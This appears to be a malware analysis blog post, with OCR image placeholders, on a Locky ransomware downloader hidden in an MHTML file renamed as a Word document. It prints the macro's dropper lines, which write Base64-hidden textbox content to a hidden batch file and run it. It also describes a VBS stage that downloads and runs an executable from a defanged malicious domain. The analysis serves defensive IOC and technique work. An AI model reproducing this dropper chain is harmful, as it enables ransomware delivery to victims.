Locky Ransomware - Obfuscated Weaponry

Some emails with word file attachments were found to be un-scannable by the AV engine on the ESG. This required some further analysis.

Antivirus detects these files as downloaders

Performing a dynamic analysis, I set up the fakedns on the gateway VM so I could intercept any DNS requests and at the same time I also ran Wireshark on the victim VM machine to see the URL:

In the above traffic we have identified some IOCs like the sender ip addresses, malicious C2 domain and the file name of the second stage binary.

I use the Process Monitor tool from Sysinternals to analyze the process tree and the command line arguments.  I am able to find names of more artifacts which could be used as IOCs as well like the arra.bat, dasdee.vbs, asddddd.exe:

Next, I would like to perform further analysis for identifying the attack TTPs (by reverse engineering the sample and studying the sub phases of the attack kill chain).For this I need access to the code (most probably the macro in the word file). But when I try to access that macro, the attacker seem to have password protected the VBA project. I could try to retrieve or disable this password using some other techniques.

I try to use OfficeMalScanner in some hope to get hold of the macro but the file is not identified as an MS Word file.

I used trid to fingerprint the files but of no avail

I thought maybe this could be an RTF file masquerading as a doc file but again it did not turn out to be an RTF file:

I then decided to port the file to my UNIX DFIR box where I had the oletools-0.46 downloaded.

I used mraptor.py script, which is a script to detect malicious VBA Macros. It seems to be an MHTML file. Word can save and open files of type .htm and .mht.an MHTML file (.mht) could be renamed to .doc and could still work and open in MS Word.

I then used olevba.py tool to successfully extract the VBA code into a text file:

I saw something interesting (the author name?) when I opened the doc file in the hex editor. It confirms that the file is an MSHTML file

The extracted VBA code shows some peculiar things. We see the use of form and textbox objects within the VBA code. This could be an indication to theuse of latest attack techniques whereby macros are used but the actual downloader/dropper code is hidden encrypted in the value fields of the form textbox objects.

This technique is recently seen in macro malware related to DRIDEX and the latest crypto-ransomware variant, Locky ransomware, used Form object in macros to obfuscate the malicious code.

The entry point is when a function call is made in macro’s autoopen() function. We can also see that this is located in the “ThisDocument.cls” MS Word object.

Module1.bas has the code for the function VJKBKasd

Module1 has a lot of junk code with Ltrim Rtrim functions but the actual significant lines of code in between, to look at are:
Set sadasddcc = CreateObject("Scripting.FileSystemObject")Set sadqwnczxc = sadasddcc.CreateTextFile(Environ("TEMP") & "\arra.bat", True)
sadqwnczxc.Write(Base64Decode(UserForm1.TextBox1)) + UserForm1.TextBox2
Shell Environ("TEMP") & "\arra.bat", vbHide
---End of Module1.bas---

In the above code we can see that a file called “arra.bat” is being created in the TEMP folder and the encrypted code hidden in the TextBox1 and TextBox2 objects of UserForm1 is being decrypted using “Base64Decode” function, and then written to the arra.bat file and then this batch file is executed in a hidden mode.

Module2.bas contains some supplementary code to decrypt some embedded code using the function “Base64Decode”:

Encrypted Code:

Next we see the encrypted code, embedded in the form controls:

Next we see some script code embedded in the form control. We can see cscript being called with /Nologo switch (Specifies that the Windows Script Host banner is not displayed before the script runs). %DLOAD_SCRIPT% is a parameter of interest, which is passed on to the cscript command along with the URL to download the file “7.exe” from. From the looks of this script we can see that “7.exe” is being downloaded and placed in the TMP folder as “asddddd.exe” and then it is executed using “start” command and once that is done, some files “dasdee.vbs” and “arra.batea” are deleted form the temp folder:

Let us have try to put this code together as a VBA project in a word document and try debugging the VBA code. I created a file andadded the VBA project with the modules, form and two textboxes with the same name as in the extracted VBA Code. Then I copied pasted the code in the specific modules. Lastly, I copied pasted the encrypted code into the text value of the textbox1 and the cscript text in the value of the textbox2:

Once I have the file ready, I saved it as an MHTML file and renamed it as doc and opened it. The file conveniently opened in MS Word.

I entered the VBA project and started debugging, we can see that the batch file arra.bat is being created in the TMP folder:

Next we see that the encrypted code stored as “value” of the textbox1 control is being decrypted and written in the batch file along with the value of the textbox2 control “cscript…” command:

Logic to check if the string passed on is a valid base64:

Slowly we see the decryption is resulting in some relatively sensible code:

When all is written to the batch file we can see the decrypted code and cscript… part is written into it:

This seems to be a second layer of obfuscation. Let us try to deobfuscate this batch file code. Going through first few lines of code (notepad++ was helpful), it seems to be a very simplesubstitution based obfuscation wherevariables are assigned alphabetical values and the actual script is hidden by using these variable names instead of actual alphabets. I simply took this piece of code to notepad++ and performed find and replace function to get the following result:

In the above script we can see that the %DLOAD_SCRIPT% is an environment variable set to point towards “dasdee.vbs” file in the TMP folder. We see that echo command in the batch file is used to write to the vbs script. Once the vbs script is written then we can see that cscript is invoked to run the script file “DLOAD_SCRIPT” (from the environment variables) and the parameters passed on to the script arehttp://avp-mech(dot)ru/7/7(dot)exe and “TMP\asddddd.exe”.
The vbs script essentially downloads the 7.exe from the malicious domain and then writes it to the temp folder and runs it.
The artifacts batch and the vbs file are deleted.

Beside the IOCs extractedabove, we can read more about this campaign for infecting with Locky ransomware: